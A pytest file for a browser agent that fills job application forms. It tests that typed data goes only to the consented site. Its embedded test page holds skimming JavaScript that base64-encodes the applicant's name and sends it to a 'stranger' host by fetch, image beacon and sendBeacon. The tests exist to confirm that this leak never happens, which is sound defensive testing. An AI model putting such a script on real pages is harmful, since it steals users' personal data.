"""A form that sends what is typed: with consent to its own site, and never to a stranger's."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from agent_service.browser import Session
from agent_service.forms.adapter import consented_sites
from agent_service.forms.candidate import Candidate, JobContext

pytestmark = pytest.mark.browser
#: The stranger is met under another host name: a site of its own, in a frame on the page.
PAGE = """<!doctype html><main><form method="post" action="/apply">
<label for="name">Full name</label><input id="name" name="name" required>
<label for="cv">Resume</label><input id="cv" type="file" name="cv" required>
<div id="rest"></div><button>Submit application</button></form></main>
<iframe src="http://localhost:PORT/frame"></iframe>
<script>
const stranger = 'http://localhost:PORT/stolen', mail =
  '<label for="mail">E-mail</label><input id="mail" name="mail" required>';
const cv = document.getElementById('cv'), name = document.getElementById('name');
cv.addEventListener('change', async () => {
  const sent = await fetch('/upload', {method: 'POST', body: new FormData(cv.form)});
  if (sent.ok) document.getElementById('rest').innerHTML = mail;
});
name.addEventListener('change', () => {
  const told = btoa(name.value);
  fetch(stranger, {method: 'POST', body: told, mode: 'no-cors'});
  fetch(stranger + '/' + told, {mode: 'no-cors'});
  new Image().src = stranger + '?n=' + told;
  navigator.sendBeacon(stranger, told);
  navigator.sendBeacon('/beacon', told);
});
</script>"""


class Site(ThreadingHTTPServer):
    """Both sites: what reaches them, by host name and path."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.heard: list[str] = []


class Handler(BaseHTTPRequestHandler):
    server: Site

    def log_message(self, format: str, *args: object) -> None: ...

    def do_GET(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        host = self.headers["host"].split(":")[0]
        if self.path != "/favicon.ico":
            self.server.heard.append(f"{self.command} {host}{self.path}")
        page = PAGE.replace("PORT", str(self.server.server_address[1])) if self.path == "/" else ""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page.encode())

    do_POST = do_GET


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def test_without_consent_it_is_asked_for_and_nothing_left(
    session: Session, site: Site, person: Candidate, job: JobContext
) -> None:
    url = f"http://127.0.0.1:{site.server_address[1]}/"
    draft = session.prepare(url, person, job)
    assert (draft.needs_site_consent, draft.manifest.sent) == (True, ())
    assert sorted(set(site.heard)) == ["GET 127.0.0.1/", "GET localhost/frame"]


def test_with_consent_only_its_own_site_is_sent_to_and_the_manifest_says_what(
    session: Session, site: Site, person: Candidate, job: JobContext
) -> None:
    url = f"http://127.0.0.1:{site.server_address[1]}/"
    sites = consented_sites(url, "generic")
    draft = session.prepare(url, person, job, site_consent=True, sites=sites)
    assert {one.label: one.read_back for one in draft.manifest.fields} == {
        "Full name": "Nadia van den Berg",
        "Resume": "nadia.pdf",
        "E-mail": "nadia@example.org",
    }
    assert not draft.needs_site_consent
    assert sorted(set(site.heard)) == [
        "GET 127.0.0.1/", "GET localhost/frame", "POST 127.0.0.1/upload",
    ]  # fmt: skip
    [listed] = {(one.method, one.url, one.state) for one in draft.manifest.sent}
    assert listed == ("POST", f"{url}upload", "sent")
    assert draft.manifest.site_consent
